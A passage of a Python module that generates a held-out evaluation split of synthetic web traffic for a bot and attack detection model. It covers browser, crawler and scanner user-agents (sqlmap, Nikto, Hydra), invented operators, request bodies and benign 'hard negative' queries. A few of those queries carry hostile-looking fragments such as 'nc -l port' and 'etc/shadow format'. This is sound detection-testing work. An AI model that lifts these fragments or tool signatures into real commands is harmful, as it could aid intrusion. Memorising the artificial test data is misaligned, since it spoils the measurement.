"""The unseen-protocols split: a measurement split whose every source is written here and nowhere else.

``sources.UNSEEN_PROTOCOLS`` ("unseen-protocols") is a side outside the hash split, drawn like the unseen-injections
split, from sources none of the sides, the unseen-releases split or the unseen-injections split has: browser releases
after the unseen-injections split's, browsers none had (Xiaomi's and UC on Android, the Quest's, webOS TVs' and the
Xbox's, Pale Moon, SeaMonkey) and new builds and in-app views of others (Opera and Silk on Android, Facebook's
Android view, Opera, Ecosia, LinkedIn, Pinterest and TikTok on iOS), crawler releases and invented operators, library
releases and new library members (niquests, fasthttp, go-git, Apple's git, superagent, xh, excon, http.rb, Symfony's
client, PowerShell…), scanners, page shapes in URL conventions no other side uses (WooCommerce's Store API,
Shopware, Magento's REST API, Medusa, Bitbucket Data Center, Gerrit, Azure DevOps, Redmine, Lemmy, Mastodon, the
Matrix client API, Moodle, Blogger, Medium, Isso, WriteFreely, BookStack, Confluence, MediaWiki's api.php, DokuWiki,
Jupyter, PostgREST, Strapi, Directus, tRPC, gRPC-web, Jira, Grafana, Ory Kratos, authentik, Supabase auth…), its own
people's text (hard negatives included), payload productions in forms no other side writes plus attack families on
authentication and protocols none of them has (JWT header abuse, SAML signature wrapping and transforms, open
redirects and OAuth ``redirect_uri`` abuse, log injection with terminal escapes, Cypher injection, search-engine
query injection, CSS injection), and probe families of their own.

It measures whether a model generalises to traffic newer and different from everything the model, its calibration
and the other measurement splits were drawn from. It is used only to measure, never to train, calibrate or choose.
People's text comes from this module's own pools (``models.data.unseen.pick``).
"""

from __future__ import annotations

import base64
import random
from urllib.parse import quote

from models.data import attacks
from models.data.attacks import Production
from models.data.site import (
    BRANCHES,
    CATEGORIES,
    FILES,
    HOSTS,
    NOUNS,
    PAGES,
    REPOS,
    SECTIONS,
    TAGS,
    TOPICS,
    USERS,
    WORDS,
    Endpoint,
    Template,
    _asset,
    _b62,
    _b64url,
    _compact,
    _email,
    _form,
    _hex,
    _json,
    _page,
    _password,
    _pkt,
    _q,
    _rest,
    _slug,
    _uuid,
    _version,
    _xhr,
)
from models.data.sources import (
    IOS,
    IPAD,
    NEXUS,
    WEBKIT,
    applebot_releases,
    chrome_desktop,
    safari_releases,
    search_crawler_release,
)
from models.data.unseen import invented, number, paragraph, people_query, pick

# ---------------------------------------------------------------------------- browsers
#
# Releases after the unseen-injections split's newest (Chrome and Edge 151-156 in the reduced format, Firefox 153-158, Safari
# 27.1-28), Firefox on systems no side spells, and browsers and in-app views none had.

_CHROME_BUILDS = {151: 7922, 152: 7970, 153: 8019, 154: 8066, 155: 8113, 156: 8160}


def _browsers() -> list[tuple[str, float]]:
    out: list[tuple[str, float]] = []
    for v, build in _CHROME_BUILDS.items():
        tail = f"AppleWebKit/537.36 (KHTML, like Gecko) Chrome/{v}.0.0.0"
        out += chrome_desktop(tail)
        out += [(f"Mozilla/5.0 (Linux; Android 10; K) {tail} Mobile Safari/537.36", 3.5),
                (f"Mozilla/5.0 (Windows NT 10.0; Win64; x64) {tail} Safari/537.36 Edg/{v}.0.0.0", 1.0),
                (f"Mozilla/5.0 (iPhone; {IOS}) {WEBKIT} CriOS/{v}.0.{build}.{v % 5 * 29 + 17} Mobile/15E148 Safari/604.1", 0.4)]
        if v % 2:
            out += [(f"Mozilla/5.0 (Linux; Android 10; K) {tail} Mobile Safari/537.36 OPR/{v - 58}.{v % 4}.{4900 + v}.{88000 + v * 7}", 0.15),
                    (f"Mozilla/5.0 (X11; CrOS x86_64 16{v % 10}81.{v - 130}.0) {tail} Safari/537.36", 0.15),
                    (f"Mozilla/5.0 (Macintosh; Intel Mac OS X 10_15_7) {tail} Safari/537.36 OPR/{v - 16}.0.0.0", 0.05),
                    (f"Mozilla/5.0 (iPhone; {IOS}) {WEBKIT} EdgiOS/{v}.0.{4100 + (v - 151) * 53}.{v % 7 + 51} Version/27.0 Mobile/15E148 Safari/604.1", 0.1)]
        else:
            out += [(f"Mozilla/5.0 (Linux; Android 10; K) {tail} Safari/537.36 EdgA/{v}.0.0.0", 0.05),
                    (f"Mozilla/5.0 (Windows NT 10.0; Win64; x64; Xbox; Xbox Series X) {tail} Safari/537.36 Edg/{v}.0.0.0", 0.03),
                    (f"Mozilla/5.0 (iPad; {IPAD}) {WEBKIT} EdgiOS/{v}.0.{4100 + (v - 151) * 53}.{v % 5 + 30} Version/27.0 Mobile/15E148 Safari/604.1", 0.03),
                    (f"Mozilla/5.0 (X11; Linux x86_64) {tail} Safari/537.36 OPR/{v - 16}.0.0.0", 0.05)]
    # Chromium on Android with the full build (the reduced format's exceptions) and on devices no side had
    out += [
        ("Mozilla/5.0 (Linux; U; Android 14; en-gb; 2312DRA50G Build/UKQ1.231003.002) AppleWebKit/537.36 (KHTML, like Gecko) Version/4.0 Chrome/134.0.6998.135 Mobile Safari/537.36 XiaoMi/MiuiBrowser/14.31.1-gn", 0.1),
        ("Mozilla/5.0 (Linux; U; Android 15; en-us; 24117RN76O Build/AP3A.240905.015.A2) AppleWebKit/537.36 (KHTML, like Gecko) Version/4.0 Chrome/138.0.7204.179 Mobile Safari/537.36 XiaoMi/MiuiBrowser/14.37.0-gn", 0.08),
        ("Mozilla/5.0 (Linux; U; Android 13; en-US; RMX3710 Build/TP1A.220905.001) AppleWebKit/537.36 (KHTML, like Gecko) Version/4.0 Chrome/123.0.6312.80 UCBrowser/13.8.2.1324 Mobile Safari/537.36", 0.05),
        ("Mozilla/5.0 (Linux; Android 11; KFTRWI) AppleWebKit/537.36 (KHTML, like Gecko) Silk/140.3.4 like Chrome/140.0.7339.207 Safari/537.36", 0.05),
        ("Mozilla/5.0 (Linux; Android 9; KFMAWI) AppleWebKit/537.36 (KHTML, like Gecko) Silk/142.2.1 like Chrome/142.0.7444.102 Safari/537.36", 0.03),
        ("Mozilla/5.0 (X11; Linux x86_64; Quest 3) AppleWebKit/537.36 (KHTML, like Gecko) OculusBrowser/41.3.0.14.58 SamsungBrowser/4.0 Chrome/144.0.7559.96 VR Safari/537.36", 0.02),
        ("Mozilla/5.0 (Web0S; Linux/SmartTV) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/120.0.6099.269 Safari/537.36 WebAppManager", 0.02),
        ("Mozilla/5.0 (Linux; Android 15; Pixel 9 Build/BP1A.250505.005; wv) AppleWebKit/537.36 (KHTML, like Gecko) Version/4.0 Chrome/152.0.7970.88 Mobile Safari/537.36 [FB_IAB/FB4A;FBAV/528.0.0.47.109;]", 0.2),
        ("Mozilla/5.0 (Linux; Android 14; SM-S921B Build/UP1A.231005.007; wv) AppleWebKit/537.36 (KHTML, like Gecko) Version/4.0 Chrome/151.0.7922.140 Mobile Safari/537.36 Instagram 402.0.0.41.92 Android (34/14; 480dpi; 1080x2340; samsung; SM-S921B; e1s; s5e9945; en_GB; 812466301)", 0.15),
        ("Mozilla/5.0 (Linux; Android 10; K) AppleWebKit/537.36 (KHTML, like Gecko) SamsungBrowser/32.0 Chrome/148.0.0.0 Mobile Safari/537.36", 0.4),
        ("Mozilla/5.0 (Linux; Android 10; K) AppleWebKit/537.36 (KHTML, like Gecko) SamsungBrowser/33.0 Chrome/152.0.0.0 Mobile Safari/537.36", 0.3),
        ("Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/150.0.0.0 YaBrowser/26.9.0.0 Safari/537.36", 0.1),
        ("Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/152.0.0.0 YaBrowser/26.11.1.0 Yowser/2.5 Safari/537.36", 0.1),
    ]
    # Firefox: new releases, systems the sides never spell, and browsers built on it
    for v in range(153, 159):
        out += [(f"Mozilla/5.0 (Windows NT 10.0; Win64; x64; rv:{v}.0) Gecko/20100101 Firefox/{v}.0", 0.6),
                (f"Mozilla/5.0 (Macintosh; Intel Mac OS X 10.15; rv:{v}.0) Gecko/20100101 Firefox/{v}.0", 0.2),
                (f"Mozilla/5.0 (X11; {'Ubuntu; ' if v % 2 == 0 else ''}Linux x86_64; rv:{v}.0) Gecko/20100101 Firefox/{v}.0", 0.3),
                (f"Mozilla/5.0 (Android 16; Mobile; rv:{v}.0) Gecko/{v}.0 Firefox/{v}.0", 0.1)]
    out += [
        ("Mozilla/5.0 (X11; FreeBSD amd64; rv:153.0) Gecko/20100101 Firefox/153.0", 0.02),
        ("Mozilla/5.0 (X11; OpenBSD amd64; rv:152.0) Gecko/20100101 Firefox/152.0", 0.01),
        ("Mozilla/5.0 (X11; Linux ppc64le; rv:140.0) Gecko/20100101 Firefox/140.0", 0.01),
        ("Mozilla/5.0 (X11; Linux x86_64; rv:153.0) Gecko/20100101 Firefox/153.0 (esr)", 0.02),
        ("Mozilla/5.0 (Windows NT 10.0; Win64; x64; rv:102.0) Gecko/20100101 Goanna/6.8 Firefox/102.0 PaleMoon/33.9.1", 0.02),
        ("Mozilla/5.0 (Windows NT 10.0; Win64; x64; rv:60.0) Gecko/20100101 Firefox/60.0 SeaMonkey/2.53.22", 0.01),
        ("Mozilla/5.0 (Android 15; Tablet; rv:155.0) Gecko/155.0 Firefox/155.0", 0.03),
        (f"Mozilla/5.0 (iPhone; {IOS}) {WEBKIT} FxiOS/152.0 Mobile/15E148 Safari/605.1.15", 0.15),
        (f"Mozilla/5.0 (iPhone; {IOS}) {WEBKIT} FxiOS/155.2 Mobile/15E148 Safari/605.1.15", 0.15),
        (f"Mozilla/5.0 (iPad; {IPAD}) {WEBKIT} FxiOS/155.2 Mobile/15E148 Safari/605.1.15", 0.04),
    ]
    # Safari on macOS, iPhone and iPad; other browsers' and apps' views on iOS
    out += safari_releases(("27.1", "27.2", "27.3", "27.4", "28.0"))
    out += [
        (f"Mozilla/5.0 (iPhone; {IOS}) {WEBKIT} Version/27.1 Mobile/15E148 Safari/604.1 OPT/6.4.1", 0.05),
        (f"Mozilla/5.0 (iPhone; {IOS}) {WEBKIT} Version/27.2 Mobile/15E148 Safari/604.1 Ecosia ios@11.9.0.2611", 0.03),
        (f"Mozilla/5.0 (iPhone; {IOS}) {WEBKIT} GSA/412.0.826190144 Mobile/15E148 Safari/604.1", 0.3),
        (f"Mozilla/5.0 (iPhone; {IOS}) {WEBKIT} Mobile/15E148 [LinkedInApp]/9.31.4120", 0.05),
        (f"Mozilla/5.0 (iPhone; {IOS}) {WEBKIT} Mobile/15E148 [Pinterest/iOS]", 0.04),
        (f"Mozilla/5.0 (iPhone; {IOS}) {WEBKIT} Mobile/15E148 musical_ly_42.6.0 JsSdk/2.0 NetType/WIFI Channel/App Store ByteLocale/en Region/GB RevealType/Dialog isDarkMode/1 WKWebView/1 BytedanceWebview/d8a21c6", 0.15),
        (f"Mozilla/5.0 (iPhone; {IOS}) {WEBKIT} Mobile/15E148 Safari Line/15.14.0", 0.03),
        (f"Mozilla/5.0 (iPhone; {IOS}) {WEBKIT} Mobile/15E148 Instagram 405.0.0.28.79 (iPhone17,3; iOS 26_4; en_US; en; scale=3.00; 1179x2556; 829114570)", 0.2),
    ]
    return out


BROWSER_STRINGS: tuple[tuple[str, float], ...] = tuple(_browsers())

# ---------------------------------------------------------------------------- crawlers


# Operators invented for this split (none is a real company): (format with {n}, tags, role), each in three versions.
_INVENTED: tuple[tuple[str, tuple[str, ...], str], ...] = (
    ("Bramblefeed/{n}.1 (+https://bramblefeed.example/fetcher; 27 readers)", ("feed-reader",), "good"),
    ("Mozilla/5.0 (compatible; Lanternreader/2.{n}; +https://lanternreader.example/bot)", ("feed-reader",), "good"),
    ("Tidepool-RSS/0.{n} (podcast and feed index; +https://tidepool.example/about)", ("feed-reader",), "good"),
    ("Mozilla/5.0 (compatible; Watchkeeper-Probe/{n}.3; +https://watchkeeper.example/probes)", ("monitoring",), "good"),
    ("Uptimist/1.{n} (https://uptimist.example; check interval 60s)", ("monitoring",), "good"),
    ("Canarywire-Synthetics/4.{n}", ("monitoring",), "good"),
    ("Mozilla/5.0 (compatible; MurmurCards/1.{n}; +https://murmur.example/cards)", ("social-preview",), "good"),
    ("Postbox-Preview/2.{n} (link unfurler; +https://postbox.example/preview)", ("social-preview",), "good"),
    ("Mozilla/5.0 (compatible; Adsentry-Verify/3.{n}; +https://adsentry.example/landing)", ("advertising",), "good"),
    ("Mozilla/5.0 (compatible; Heronbot/1.{n}; +https://heron-search.example/crawler)", ("search-engine",), "good"),
    ("Mozilla/5.0 (Linux; Android 15; Pixel 9) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/153.0.0.0 Mobile Safari/537.36 (compatible; Mossbot/2.{n}; +https://moss.example/bot)", ("search-engine",), "good"),
    ("Ospreybot/0.{n} (+https://osprey.example/search/bot.html)", ("search-engine",), "good"),
    ("Mozilla/5.0 (compatible; Vellum-Archive/1.{n}; +https://vellum.example/archive)", ("archiver",), "good"),
    ("Tapestry-Archiver/2.{n} (WARC; +https://tapestry.example)", ("archiver",), "good"),
    ("Mozilla/5.0 AppleWebKit/537.36 (KHTML, like Gecko; compatible; Cinderbot/1.{n}; +https://cinder.example/bot)", ("ai-crawler",), "bad"),
    ("Loomwright-AI/0.{n} (+https://loomwright.example/crawler)", ("ai-crawler",), "bad"),
    ("Mozilla/5.0 (compatible; NimbusLM-Fetch/2.{n}; assistant browsing; +https://nimbuslm.example/fetch)", ("ai-crawler",), "bad"),
    ("Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/154.0.0.0 Safari/537.36; compatible; Sparrowhawk-Agent/1.{n}", ("ai-crawler",), "bad"),
    ("Mozilla/5.0 (compatible; RankTrellis/4.{n}; +https://ranktrellis.example/bot)", ("seo",), "bad"),
    ("Backlinkery/2.{n} (+http://backlinkery.example)", ("seo",), "bad"),
    ("Mozilla/5.0 (compatible; SerpWarden-Audit/1.{n})", ("seo",), "bad"),
    ("Mozilla/5.0 (compatible; Perimetry/2.{n}; +https://perimetry.example/opt-out)", ("scanner",), "bad"),
    ("Sweepline-Research/1.{n} (internet census; abuse@sweepline.example)", ("scanner",), "bad"),
)


def _crawlers() -> list[tuple[str, tuple[str, ...], str]]:
    search = ("search-engine",)
    out: list[tuple[str, tuple[str, ...], str]] = []
    for v, build in _CHROME_BUILDS.items():
        chrome = f"Chrome/{v}.0.{build}.{v % 6 * 23 + 9}"
        out += search_crawler_release(v, chrome)
        if v % 2 == 0:
            out += [(f"{NEXUS} {chrome} Mobile Safari/537.36 (compatible; Google-InspectionTool/1.0;)", search, "good"),
                    (f"Mozilla/5.0 (X11; Linux x86_64; Storebot-Google/1.0) AppleWebKit/537.36 (KHTML, like Gecko) {chrome} Safari/537.36", search, "good"),
                    (f"Mozilla/5.0 (Macintosh; Intel Mac OS X 10_15_7) AppleWebKit/537.36 (KHTML, like Gecko) HeadlessChrome/{v}.0.0.0 Safari/537.36", ("browser-automation",), "bad")]
    out += applebot_releases(("27.1", "27.2", "27.4", "28.0"), ("27.1", "27.3"))
    out += invented(_INVENTED, (2, 5, 8))
    return out


CRAWLER_STRINGS: tuple[tuple[str, tuple[str, ...], str], ...] = tuple(_crawlers())

# ---------------------------------------------------------------------------- libraries and CLI tools
#
# Releases after the unseen-injections split's in each family's own format, and members of the families none had before (niquests
# for requests, fasthttp for go, go-git and Apple's git, superagent and needle for node, Vert.x's and Jetty's clients
# for java, Insomnia beside Postman, xh beside HTTPie, excon and http.rb for ruby, Symfony's client and Drupal for php,
# PowerShell for dotnet, NewsFlash and Akregator for the feed clients).
LIBRARIES: tuple[tuple[str, tuple[str, ...]], ...] = (
    ("curl", ("curl/9.0.1", "curl/9.0.2", "curl/9.1.0", "curl/9.1.1", "curl/9.2.0")),
    ("wget", ("Wget/1.27.1", "Wget/1.28.0", "wget2/2.3.0", "wget2/2.3.1")),
    ("requests", ("python-requests/2.37.0", "python-requests/2.37.1", "python-requests/2.38.0", "python-requests/2.38.2",
                  "niquests/3.15.0", "niquests/3.16.1")),
    ("httpx", ("python-httpx/1.2.0", "python-httpx/1.2.1", "python-httpx/1.3.0")),
    ("aiohttp", tuple(f"Python/3.{py} aiohttp/3.{m}.{p}" for py in (15, 16) for m in (16, 17) for p in (1, 3))),
    ("go", ("go-resty/3.3.0 (https://resty.dev)", "go-resty/3.3.1 (https://resty.dev)", "fasthttp")),
    ("git", (*(f"git/2.{m}.{p}" for m in (56, 57) for p in (0, 1)), "git/2.56.0.windows.1", "git/2.57.1.windows.1",
             "git/2.50.1 (Apple Git-155)", "git/2.50.1 (Apple Git-156)", "JGit/7.5.0.202512021534-r", "JGit/7.6.0.202603031120-r",
             "go-git/5.16.2", "go-git/6.0.0")),
    ("axios", tuple(f"axios/1.{m}.{p}" for m in range(18, 22) for p in (0, 1))),
    ("node", ("Bun/1.4.3", "Bun/1.5.0", "Deno/2.8.1", "Deno/3.0.0", "undici/7.21.0", "undici/8.0.1", "node-superagent/10.2.3",
              "Needle/3.3.1 (Node.js v24.11.0; linux x64)")),
    ("okhttp", ("okhttp/5.4.1", "okhttp/5.5.0", "okhttp/5.5.2")),
    ("java", ("Java-http-client/26.0.1", "Java-http-client/27", "Apache-HttpClient/5.6.2 (Java/25.0.2)", "Apache-HttpClient/5.7 (Java/26.0.1)",
              "Vert.x-WebClient/5.0.4", "Jetty/12.1.2")),
    ("postman", ("PostmanRuntime/7.52.0", "PostmanRuntime/7.52.2", "PostmanRuntime/7.53.1", "insomnia/11.6.1")),
    ("httpie", ("HTTPie/3.4.1", "HTTPie/3.5.0", "xh/0.25.0")),
    ("ruby", ("Faraday v2.16.0", "Faraday v2.16.1", "excon/1.3.0", "http.rb/5.3.1")),
    ("php", ("GuzzleHttp/7 curl/8.20.0 PHP/8.5.3", "GuzzleHttp/7 curl/9.0.0 PHP/8.5.4", "Symfony HttpClient (Curl)", "Symfony HttpClient (Native)",
             "WordPress/7.1; https://shop.example.com", "Drupal (+https://www.drupal.org/)")),
    ("dotnet", ("RestSharp/114.1.0.0", "RestSharp/115.0.0.0", "Microsoft-WebDAV-MiniRedir/10.0.26300",
                "Mozilla/5.0 (Windows NT 10.0; Microsoft Windows 10.0.26100; en-US) PowerShell/7.5.3",
                "Mozilla/5.0 (Windows NT 10.0; Microsoft Windows 10.0.26200; en-GB) PowerShell/7.6.0")),
    ("feedcli", ("Miniflux/2.2.17 (+https://miniflux.app)", "FreshRSS/1.29.0 (Linux; https://freshrss.org)",
                 "CommaFeed/5.14.1 (https://github.com/Athou/commafeed)", "newsboat/2.42.0 (Linux x86_64)",
                 "Tiny Tiny RSS/26.01 (https://tt-rss.org/)", "NewsFlash/4.1.2", "Akregator/6.4.3; syndication")),
)

# ---------------------------------------------------------------------------- scanners

SCANNER_UAS: tuple[str, ...] = (
    "sqlmap/1.10.5#stable (https://sqlmap.org)", "sqlmap/1.10.7.3#dev (https://sqlmap.org)",
    "Mozilla/5.00 (Nikto/2.6.1) (Evasions:None) (Test:map_codes)", "feroxbuster/2.13.2", "gobuster/3.9.1", "Fuzz Faster U Fool v2.2.1",
    "Nuclei - Open-source project (github.com/projectdiscovery/nuclei) v3.7.2", "WPScan v3.8.32 (https://wpscan.com/wordpress-security-scanner)",
    "commix/v4.1-stable (https://commixproject.com)", "Mozilla/4.0 (Hydra)", "Mozilla/5.0 SF/2.10b", "Mozilla/5.0 [en] (X11, U; OpenVAS-VT 24.4.2)",
    "WhatWeb/0.6.4", "Wapiti/3.2.6 (wapiti-scanner.github.io)", "xray/1.9.15",
)

# ---------------------------------------------------------------------------- people's text
QUERIES: tuple[str, ...] = (
    "wool felt slippers", "cast iron dutch oven 6 qt", "kids balance bike", "bike torque wrench", "mesh wifi 3 pack",
    "linen apron with pockets", "insulated water bottle 1l", "soldering station temperature control", "bamboo toothbrush 4 pack",
    "gravel tires 700x40", "e-ink tablet for notes", "kubernetes cronjob timezone", "sqlite wal mode", "nix flakes tutorial",
    "htmx infinite scroll", "tailscale exit node", "proxmox backup server", "duckdb parquet", "ceramic pour over dripper",
    "heated gloves women",
)
HARD_QUERIES: tuple[str, ...] = (
    "select lens vs zoom lens", "drop bear myth", "union square hotels", "script supervisor jobs", "<table> vs css grid",
    "../ in markdown links", "cat /proc/cpuinfo meaning", "chmod 777 vs 755", "sleep(1000) not working javascript",
    "' vs \" in bash", "or-tools tutorial", "and gate truth table", "onload vs domcontentloaded", "<img> alt text best practices",
    "${{ secrets }} github actions", "{{ range }} go template", "set -euo pipefail", "exec vs system php", "wget -r -np",
    "etc/shadow format", "%PATH% windows 11", "nc -l port", "xp_cmdshell disable", "jwt alg none vulnerability",
    "redirect_uri mismatch google oauth", "ansi escape codes bash colors", "cypher match where example",
    "elasticsearch query_string syntax", "saml response decoder",
)
REVIEW_TEXT: tuple[str, ...] = (
    "Keeps coffee hot for ~6h, cold stuff all day.", "Returned it - the 'large' is more like a medium.",
    "Assembly took 20 min & the screws were all there.", "<3 the colour, but the seams fray after a few washes.",
    "Works fine on Linux; no drivers needed.", "2 stars: the app wants an account just to turn it on.",
    "My 8-year-old rides it daily -> zero issues so far.", "Heavier than it looks (approx. 4kg).",
    "The 'non-stick' coating lasted three months :/", "Exactly as described, arrived a day early.",
    "Strap is <b>much</b> comfier than the old one.", "Good value; I'd skip the 'premium' add-on though.",
    "Zipper broke on day 2. Seller replaced it, no questions.", "Fits a 16\" MacBook Pro with a case.",
    "Battery went from 100% to 40% overnight, not great.",
)
FORUM_TEXT: tuple[str, ...] = (
    "Running `journalctl -u caddy --since '10 min ago'` shows the cert renewal failing.",
    "Set `vm.max_map_count=262144` in /etc/sysctl.d/ and reboot, then OpenSearch starts.",
    "The view needs `GROUP BY user_id HAVING COUNT(*) > 1` or you get duplicates.",
    "If the log says 'FATAL: password authentication failed for user \"app\"', check pg_hba.conf.",
    "I put `<link rel=\"preconnect\">` in the head and LCP dropped by 300 ms.",
    "Use `rsync -avz --delete ./public/ web:/srv/www/` and keep the trailing slashes.",
    "Docs for the API are at /api/v2/docs, not /docs - confused me too.",
    "Has anyone paired the Zigbee dongle with Home Assistant 2026.2? Mine drops off nightly.",
    "For PowerShell: Get-Content .\\app.log -Tail 50 -Wait",
    "Same issue on Fedora 43; downgrading mesa fixed it.",
    "Pin the version in requirements.txt (requests==2.32.3) and rebuild the image.",
    "You can't DELETE FROM a CTE in MySQL, wrap it in a subquery instead.",
    "That error ('EACCES: permission denied, open ../data/db.json') means the volume is read-only.",
    "Thanks all, marking as solved!",
    "Tip: `git log --oneline --graph --all` makes the branch mess readable.",
    "Mods, can this move to #self-hosting?",
)
COMMENT_MARKDOWN: tuple[str, ...] = (
    "Nice catch, approving.", "```yaml\nretries: 3\ntimeout: 30s\n```\nworks in staging.",
    "Could we log the request id here? Debugging this was painful.", "This changes the public API; needs a CHANGELOG entry.",
    "Blocking: `DROP COLUMN legacy_id` needs a backfill first.", "Perf: p99 went from 210ms to 140ms on the replay.",
    "Why not `Option<&str>` instead of cloning?", "Superseded by #4410.", "> is the cache invalidated?\nYes, on every write.",
    "Please wrap the `<pre>` block in `<details>`.", "Verified on macOS 26 and Windows 11 (`%APPDATA%` paths).",
    "Flaky again; opened an issue to quarantine the test.",
)



def _query(rng: random.Random, hard_share: float = 0.35) -> str:
    return people_query(rng, QUERIES, HARD_QUERIES, hard_share)


# ---------------------------------------------------------------------------- page shapes

_CROCKFORD = "0123456789ABCDEFGHJKMNPQRSTVWXYZ"


def _b64std(rng: random.Random, nbytes: int) -> str:
    return base64.b64encode(bytes(rng.randrange(256) for _ in range(nbytes))).decode()


def _ulid(rng: random.Random) -> str:
    return "01" + rng.choice("HJK") + "".join(rng.choice(_CROCKFORD) for _ in range(23))



def _ms(rng: random.Random) -> int:
    return 1_760_000_000_000 + rng.randint(0, 10**11)


def _partial_fetch(rng: random.Random) -> str:
    """A protocol-v2 ``fetch`` of a partial clone (``git clone --filter=blob:none``): wants, a filter, done."""
    args = ["thin-pack\n", "no-progress\n", "ofs-delta\n", f"filter {rng.choice(('blob:none', 'tree:0', 'blob:limit=1m'))}\n"]
    args += [f"want {_hex(rng, 40)}\n" for _ in range(rng.randint(1, 3))] + ["done\n"]
    agent = f"agent=git/2.{rng.randint(50, 57)}.{rng.randint(0, 2)}\n"
    return _pkt("command=fetch\n") + _pkt(agent) + _pkt("object-format=sha1\n") + "0001" + "".join(_pkt(a) for a in args) + "0000"


def _grpc_web(rng: random.Random) -> str:
    """A gRPC-web-text body: one length-prefixed frame of a small protobuf message (a string id, a page size), base64."""
    ident = f"{rng.choice(('ord', 'cus', 'inv'))}_{_b62(rng, 14)}".encode()
    message = b"\x0a" + bytes([len(ident)]) + ident + b"\x10" + bytes([rng.choice((10, 25, 50, 100))])
    return base64.b64encode(b"\x00" + len(message).to_bytes(4, "big") + message).decode()


def _maybe_encoded(rng: random.Random, query: str, share: float = 0.5) -> str:
    """``query`` as a client library writes it: brackets, colons and parentheses raw, or percent-encoded."""
    return quote(query, safe="=&") if rng.random() < share else query


_KEYS = ("ENG", "OPS", "WEB", "PLAT", "SEC", "DATA")
_ORGS = ("contoso", "fabrikam", "northwind", "tailspin")
_COMMUNITIES = ("selfhosted", "linux", "homelab", "rust", "privacy", "cycling", "3dprinting", "boardgames")
_INSTANCES = ("lemmy.example.net", "fedi.example.org", "social.example.com")
_MATRIX = ("matrix.example.org", "chat.example.net")
_SHOPWARE_WORDS = tuple(w.title() for w in WORDS[:24])
_TABLES = ("orders", "invoices", "customers", "subscriptions", "shipments")


def _blogger_path(rng: random.Random) -> str:
    return f"/{rng.randint(2016, 2026)}/{rng.randint(1, 12):02d}/{rng.choice(TOPICS)}.html"


def _isso_new(rng: random.Random) -> Endpoint:
    uri = quote(_blogger_path(rng), safe="")
    body = {"text": pick(rng, rng.choice((FORUM_TEXT, REVIEW_TEXT))), "author": rng.choice(USERS).title(), "email": _email(rng) if rng.random() < 0.5 else "",
            "website": None, "parent": rng.choice((None, None, rng.randint(1, 4000))), "title": rng.choice(TOPICS).replace("-", " ").capitalize(), "notification": 0}
    return Endpoint("POST", f"/new?uri={uri}", "xhr", "xhr_post", _compact(body), "application/json")


def _matrix_send(rng: random.Random) -> Endpoint:
    room = quote(f"!{_b62(rng, 18)}:{rng.choice(_MATRIX)}", safe="")
    body: dict[str, object] = {"msgtype": "m.text", "body": pick(rng, FORUM_TEXT)}
    if rng.random() < 0.3:
        body["m.relates_to"] = {"m.in_reply_to": {"event_id": f"${_b64url(rng, 43)}"}}
    return Endpoint("PUT", f"/_matrix/client/v3/rooms/{room}/send/m.room.message/m{_ms(rng)}.{rng.randint(0, 40)}", "xhr", "xhr_post",
                    _compact(body), "application/json")


def _jupyter_save(rng: random.Random) -> Endpoint:
    cells = [{"cell_type": "markdown", "metadata": {}, "source": [pick(rng, COMMENT_MARKDOWN)]},
             {"cell_type": "code", "execution_count": rng.randint(1, 40), "metadata": {}, "outputs": [],
              "source": [rng.choice(("import pandas as pd\n", "df = pd.read_parquet('events.parquet')\n", "df.groupby('day').size().plot()\n"))]}]
    content = {"cells": cells, "metadata": {"kernelspec": {"display_name": "Python 3", "language": "python", "name": "python3"}}, "nbformat": 4, "nbformat_minor": 5}
    path = f"/user/{rng.choice(USERS)}/api/contents/{rng.choice(('notebooks', 'analysis', 'scratch'))}/{rng.choice(TOPICS)}.ipynb"
    return Endpoint("PUT", path, "xhr", "xhr_post", _compact({"type": "notebook", "format": "json", "content": content}), "application/json")


def _sentry(rng: random.Random) -> Endpoint:
    """A browser SDK's session envelope: newline-separated JSON in a text/plain body (no preflight)."""
    ts = f"{rng.randint(2025, 2026)}-{rng.randint(1, 12):02d}-{rng.randint(1, 28):02d}T{rng.randint(0, 23):02d}:{rng.randint(0, 59):02d}:{rng.randint(0, 59):02d}.{rng.randint(0, 999):03d}Z"
    sdk = f"9.{rng.randint(10, 40)}.{rng.randint(0, 3)}"
    lines = [_compact({"sent_at": ts, "sdk": {"name": "sentry.javascript.browser", "version": sdk}}), _compact({"type": "session"}),
             _compact({"sid": _hex(rng, 32), "init": rng.random() < 0.5, "started": ts, "timestamp": ts, "status": "ok", "errors": 0,
                       "attrs": {"release": f"web@{_version(rng)}", "environment": "production"}})]
    target = f"/api/{rng.randint(2, 90)}/envelope/?sentry_key={_hex(rng, 32)}&sentry_version=7&sentry_client=sentry.javascript.browser%2F{sdk}"
    return Endpoint("POST", target, "xhr", "xhr_post", "\n".join(lines), "text/plain;charset=UTF-8")


def _umami(rng: random.Random) -> Endpoint:
    host = rng.choice(tuple(HOSTS.values()))
    payload = {"website": _uuid(rng), "hostname": host, "screen": rng.choice(("390x844", "1440x900", "1920x1080", "2560x1440")),
               "language": rng.choice(("en-GB", "en-US", "de-DE", "fr-FR")), "title": rng.choice(TOPICS).replace("-", " ").title(),
               "url": f"/{_slug(rng)}", "referrer": rng.choice(("", "https://www.google.com/", "https://lemmy.example.net/"))}
    return Endpoint("POST", "/api/send", "xhr", "xhr_post", _compact({"type": "event", "payload": payload}), "application/json")


def _postgrest(rng: random.Random) -> str:
    table = rng.choice(_TABLES)
    select = rng.choice(("id,total,status,customer:customers(name,email)", "*", "id,created_at,items(sku,qty)", "id,amount,currency"))
    filt = rng.choice((f"status=eq.{rng.choice(('open', 'paid', 'overdue'))}", f"created_at=gte.{rng.randint(2024, 2026)}-{rng.randint(1, 12):02d}-01",
                       "or=(status.eq.open,status.eq.pending)", f"total=gt.{rng.randint(10, 500)}", f"email=ilike.*{rng.choice(USERS)}*"))
    return f"/rest/v1/{table}?" + _maybe_encoded(rng, f"select={select}&{filt}&order=created_at.desc&limit={rng.choice((10, 20, 50))}")


def _strapi(rng: random.Random) -> str:
    coll = rng.choice(("articles", "products", "events", "authors"))
    filt = rng.choice((f"filters[slug][$eq]={_slug(rng)}", f"filters[category][name][$in][0]={rng.choice(CATEGORIES)}",
